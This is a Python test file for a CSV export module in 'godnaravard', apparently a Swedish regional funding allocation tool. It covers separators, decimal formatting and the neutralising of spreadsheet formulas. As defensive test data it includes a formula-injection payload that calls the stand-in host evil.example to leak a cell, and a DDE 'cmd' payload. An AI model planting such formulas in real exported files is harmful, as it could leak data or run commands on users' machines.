"""The one CSV writer (``godnaravard.csvout``) and ``--sep`` on every CSV output (issue 18 §4, issue 17 §1)."""

from __future__ import annotations

import csv
import doctest
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from _cli import invoke
from hypothesis import given
from hypothesis import strategies as st

from godnaravard import csvout
from godnaravard.csvout import FORMULA_START, cell, defuse, separator, table

SEPS = (",", ";", "\t")
_DECIMAL = re.compile(r"-?[0-9]+\.[0-9]+")
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"klicka")'


def _read(text: str, sep: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=sep))


def test_doctests() -> None:
    assert doctest.testmod(csvout).failed == 0


@pytest.mark.parametrize("text", ["=1+1", "+1", "@SUM(A1)", "-A1", "\tx", "\rx", "\uff1d1", "-3 kr", "-1/2"])
def test_formula_like_text_gets_an_apostrophe(text: str) -> None:
    assert defuse(text) == "'" + text


@pytest.mark.parametrize("text", ["-3", "-2.5", "-2,5", "0", "12", "Region -1", "plain", "'=kept"])
def test_numbers_and_plain_text_are_left(text: str) -> None:
    assert defuse(text) == text


def test_cells_by_type() -> None:
    assert cell(-1942496) == "-1942496"  # ASCII minus, no thousands separator
    assert cell(Decimal("-22.1798"), ";") == "-22,1798"
    assert cell(Decimal("-22.1798"), ",") == "-22.1798"
    assert cell(Decimal("-22.1798"), "\t") == "-22.1798"
    assert cell(None) == ""
    with pytest.raises(TypeError):
        cell(True)


@pytest.mark.parametrize("name", [",", ";", "\t", "tab", "\\t"])
def test_separator_names(name: str) -> None:
    assert separator(name) in SEPS


@pytest.mark.parametrize("name", ["|", "", " ", ";;", "comma"])
def test_other_separators_are_refused(name: str) -> None:
    with pytest.raises(ValueError, match="use ','"):
        separator(name)


texts = st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=12)
values = st.one_of(st.integers(min_value=-10**20, max_value=10**20), texts, st.none(),
                   st.decimals(places=4, min_value=-10**6, max_value=10**6, allow_nan=False))


@given(st.lists(st.lists(values, min_size=3, max_size=3), max_size=5), st.sampled_from(SEPS))
def test_every_cell_reads_back(rows: list[list[csvout.Value]], sep: str) -> None:
    """A csv reader with the same separator reads every row back: numbers as written (ASCII minus,
    the decimal sign of the separator), text as given or with one apostrophe in front, and no
    text cell that a spreadsheet would run."""
    got = _read(table(["a", "b", "c"], rows, sep), sep)
    assert got[0] == ["a", "b", "c"] and len(got) == len(rows) + 1
    for row, back in zip(rows, got[1:], strict=True):
        for value, text in zip(row, back, strict=True):
            if value is None:
                assert text == ""
            elif isinstance(value, int):
                assert int(text) == value and "\u2212" not in text
            elif isinstance(value, Decimal):
                assert Decimal(text.replace(",", ".")) == value and ("," in text) == (sep == ";" and "." in str(value))
            else:
                assert text in (value, "'" + value)
                assert not text.startswith(FORMULA_START) or csvout._NUMBER.fullmatch(text)


# --------------------------------------------------------------------------- --sep on the commands


def _same_but_separator(a: str, b: str, sep: str) -> None:
    """Two CSV texts with the same cells (read each with its separator), decimals compared as numbers."""
    rows_a, rows_b = _read(a, ","), _read(b, sep)
    assert len(rows_a) == len(rows_b)
    for ra, rb in zip(rows_a, rows_b, strict=True):
        assert [x.replace(".", ",") if sep == ";" and _DECIMAL.fullmatch(x) else x for x in ra] == rb


@pytest.mark.parametrize("sep", [";", "tab"])
@pytest.mark.parametrize("args", [
    ("allocate",),
    ("allocate", "--table", "bilaga3"),
    ("diff", "2024", "--set", "ambulans.grundbelopp=1000000"),
    ("parameters",),
    ("parameters", "--agreement", "svf-cancer-2025-2"),
    ("agreements",),
    ("check",),
    ("explain", "01"),
    ("explain", "25", "--agreement", "svf-cancer-2025-2"),
])
def test_sep_on_every_csv_output(args: tuple[str, ...], sep: str) -> None:
    plain = invoke(*args, "--format", "csv")
    other = invoke(*args, "--format", "csv", "--sep", sep)
    assert plain.exit_code == 0 and other.exit_code == 0, other.output
    assert invoke(*args, "--format", "csv", "--sep", ",").stdout == plain.stdout  # the default, unchanged
    _same_but_separator(plain.stdout, other.stdout, separator(sep))


def test_semicolon_gives_decimal_commas_and_an_ascii_minus() -> None:
    out = invoke("diff", "2024", "--set", "ambulans.grundbelopp=1000000", "--column", "ambulans",
                 "--format", "csv", "--sep", ";").stdout
    first = out.splitlines()[1].split(";")
    assert first[:4] == ["01", "Stockholm", "Region Stockholm", "ambulans"]
    assert first[8:] == ["-1942496", "-22,1798", "3,5661", "2,7751", "-0,7909"]
    assert "\u2212" not in out
    shares = invoke("allocate", "--table", "bilaga2", "--format", "csv", "--sep", ";").stdout
    assert any("," in c for c in _read(shares, ";")[1]) and "%" not in shares


def test_check_csv_is_every_official_cell() -> None:
    proc = invoke("check", "--format", "csv", "--set", "ambulans.grundbelopp=1000000")
    assert proc.exit_code == 1  # deviations, as in the table format
    rows = list(csv.DictReader(io.StringIO(proc.stdout, newline="")))
    assert len(rows) == 105 and {r["table"] for r in rows} == {"Bilaga 2", "Bilaga 3", "Bilaga 4"}
    assert all(int(r["deviation"]) == int(r["computed"]) - int(r["official"]) for r in rows)
    assert all(abs(Decimal(r["exact"]) - int(r["computed"])) < 3 for r in rows)  # a sum column: parts rounded
    assert any(r["reason"] and int(r["deviation"]) < 0 for r in rows)  # a negative deviation stays a number
    assert all(r["reason"] == "" for r in rows if r["deviation"] == "0")


def test_check_csv_lists_what_an_official_table_does_not_print() -> None:
    fixture = Path(__file__).parent / "fixtures" / "partial_thousands"
    proc = invoke("check", "--agreement", fixture, "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(proc.stdout, newline="")))
    cut = [r for r in rows if r["reason"].startswith("not printed: ")]
    table_ = invoke("check", "--agreement", fixture).stdout
    assert cut and "Not printed in the official tables" in table_
    assert all(r["official"] == r["computed"] == r["deviation"] == "" for r in cut)
    assert all(r["lan_code"] in table_ for r in cut)


@pytest.mark.parametrize("code", ["01", "25"])
def test_explain_csv_adds_up_to_allocate(code: str) -> None:
    rows = list(csv.DictReader(io.StringIO(invoke("explain", code, "--format", "csv").stdout, newline="")))
    alloc = {r["lan_code"]: r for r in csv.DictReader(io.StringIO(invoke("allocate", "--format", "csv").stdout))}
    for line in ("nara_vard", "ambulans", "kommuner"):
        assert sum(int(r["amount"]) for r in rows if r["line"] == line) == int(alloc[code][line])
    for r in rows:
        if r["part"]:
            assert int(r["amount"]) == int(r["floor"]) + (r["received_balancing_krona"] == "yes")


def test_a_bad_separator_is_one_line_and_exit_2() -> None:
    proc = invoke("allocate", "--format", "csv", "--sep", "|")
    assert proc.exit_code == 2 and proc.stdout == ""
    assert proc.stderr.startswith("godnaravard: error: Invalid value for '--sep': '|' is not a separator")
    assert "Traceback" not in proc.stderr and len(proc.stderr.strip().splitlines()) == 1


# --------------------------------------------------------------------------- hostile text in a definition


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A copy of the SVF agreement whose labels, sources and recipient names a spreadsheet would run."""
    folder = tmp_path_factory.mktemp("hostile") / "svf-hostile"
    assert invoke("agreement", "new", folder, "--from", "svf-cancer-2025-2").exit_code == 0
    toml = folder / "agreement.toml"
    text = toml.read_text(encoding="utf-8")
    text = text.replace('label = "Utbetalning 2, totalt"', "label = '" + HOSTILE + "'")
    text = text.replace('label = "Belopp"', 'label = "@SUM(1+1)"')
    text = text.replace('source = "Pressmeddelandet: Regeringen', 'source = "+cmd|\' /C calc\'!A0 Regeringen')
    toml.write_text(text, encoding="utf-8")
    data = next(p for p in folder.rglob("*.csv") if "official" not in p.parts)
    data.write_text(data.read_text(encoding="utf-8").replace("Region Uppsala", "-Region Uppsala"), encoding="utf-8")
    return folder


def _cells(text: str, sep: str = ",") -> list[str]:
    return [c for row in _read(text, sep) for c in row]


@pytest.mark.parametrize("sep", SEPS)
def test_parameters_csv_defuses_hostile_labels(hostile: Path, sep: str) -> None:
    proc = invoke("parameters", "--agreement", hostile, "--format", "csv", "--sep", sep)
    assert proc.exit_code == 0, proc.output
    cells = _cells(proc.stdout, sep)
    assert "'" + HOSTILE in cells
    assert any(c.startswith("'+cmd|") for c in cells)
    assert not any(c.startswith(FORMULA_START) for c in cells)
    assert "182500000" in cells  # the value stays a number


@pytest.mark.parametrize("args", [
    ("allocate",), ("allocate", "--table", "utbetalning2"), ("diff", "--set", "svf.total=1000000"),
])
def test_every_csv_defuses_hostile_names_and_headings(hostile: Path, args: tuple[str, ...]) -> None:
    cmd, *rest = args
    argv = (cmd, hostile, *rest) if cmd == "diff" else (cmd, "--agreement", hostile, *rest)
    proc = invoke(*argv, "--format", "csv")
    assert proc.exit_code == 0, proc.output
    cells = _cells(proc.stdout)
    assert not any(c.startswith(FORMULA_START) and not csvout._NUMBER.fullmatch(c) for c in cells)
    assert "'-Region Uppsala" in cells
    assert any(c.startswith("-") and c[1:].isdigit() for c in cells) or cmd != "diff"  # negative kronor stay numbers


@pytest.mark.parametrize("args", [
    ("allocate",), ("allocate", "--format", "json"), ("check",), ("explain", "01"), ("parameters",), ("agreements",),
    ("diff", "2024"), ("diff", "2024", "--format", "json"),
    ("sweep", "--vary", "ambulans.grundbelopp=1", "--output", "x.parquet"),
])
def test_sep_without_csv_output_is_refused(args: tuple[str, ...], tmp_path: Path) -> None:
    proc = invoke(*args, "--sep", ";", cwd=tmp_path)
    assert proc.exit_code == 2 and proc.stdout == ""
    assert proc.stderr == "godnaravard: error: --sep applies to CSV output only: add --format csv (or write a .csv file)\n"
    assert list(tmp_path.iterdir()) == []
